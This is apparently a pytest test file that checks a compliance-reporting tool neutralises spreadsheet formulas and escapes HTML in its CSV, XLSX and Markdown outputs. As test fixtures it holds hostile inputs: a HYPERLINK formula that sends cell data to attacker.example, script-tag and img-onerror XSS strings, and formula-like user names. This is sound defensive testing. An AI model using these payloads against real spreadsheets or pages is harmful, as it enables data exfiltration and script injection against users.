"""Names from the organisation's files never become live formulas in a spreadsheet or CSV, nor raw HTML in
the Markdown report."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from trustgap.cli import app
from trustgap.demo import DEMO_AS_OF, demo_folder
from trustgap.report.safe import FORMULA_START, is_formula_like, markdown_text, safe_cell

HOSTILE_ORG = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")<script>alert(1)</script>'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain", "plain"), ("a=b", "a=b"), (-5, -5), (3.5, 3.5), (None, None), ("", ""),
])
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_markdown_text_leaves_no_tag() -> None:
    assert "<" not in markdown_text("<script>alert(1)</script> and <img src=x onerror=alert(1)>")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[CliRunner, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    org = tmp / "org"
    shutil.copytree(demo_folder(), org)
    scope = org / "scope.yaml"
    text = scope.read_text().replace("  name: Northwind Cloud\n", f"  name: '{HOSTILE_ORG}'\n", 1)
    assert HOSTILE_ORG in text
    scope.write_text(text)
    # IAM user names may hold + = , . @ _ - (IAM quotas and name requirements), so these are real user names
    report = org / "evidence" / "aws" / "credential-report.csv"
    lines = report.read_text().splitlines()
    marcus = next(ln for ln in lines if ln.startswith("marcus.bell@"))
    extra = [marcus.replace("marcus.bell@northwind.example", name) for name in ("=1+2", "-3+4", "@evil.example")]
    report.write_text("\n".join([*lines, *extra]) + "\n")
    runner = CliRunner(env={"COLUMNS": "200", "TRUSTGAP_HOME": str(tmp / "home")})
    r = runner.invoke(app, ["assess", str(org), "--as-of", DEMO_AS_OF.isoformat()])
    assert r.exit_code == 0, r.output
    return runner, tmp


def _cells_csv(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("args", [["roadmap", "--format", "jira", "--all"], ["roadmap", "--format", "github", "--all"],
                                  ["risks", "--format", "csv"]])
def test_csv_exports_hold_no_formula(hostile_run: tuple[CliRunner, Path], args: list[str]) -> None:
    runner, tmp = hostile_run
    out = tmp / f"{args[0]}-{args[2]}.csv"
    r = runner.invoke(app, [*args, "-o", str(out)])
    assert r.exit_code == 0, r.output
    cells = _cells_csv(out.read_text(encoding="utf-8-sig"))
    assert len(cells) > 10
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_xlsx_holds_no_formula(hostile_run: tuple[CliRunner, Path]) -> None:
    runner, tmp = hostile_run
    out = tmp / "roadmap.xlsx"
    r = runner.invoke(app, ["roadmap", "--format", "xlsx", "-o", str(out)])
    assert r.exit_code == 0, r.output
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if is_formula_like(c.value)]
    for name in ("=1+2", "-3+4", "@evil.example"):  # the IAM users are finding entities in the workbook
        assert any(str(c.value).startswith(name) for c in hostile), name
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_markdown_report_escapes_html(hostile_run: tuple[CliRunner, Path]) -> None:
    runner, tmp = hostile_run
    out = tmp / "report.md"
    r = runner.invoke(app, ["report", "latest", "--format", "md", "-o", str(out)])
    assert r.exit_code == 0, r.output
    text = out.read_text()
    assert "alert(1)" in text and "<script" not in text.lower() and "&lt;script>" in text
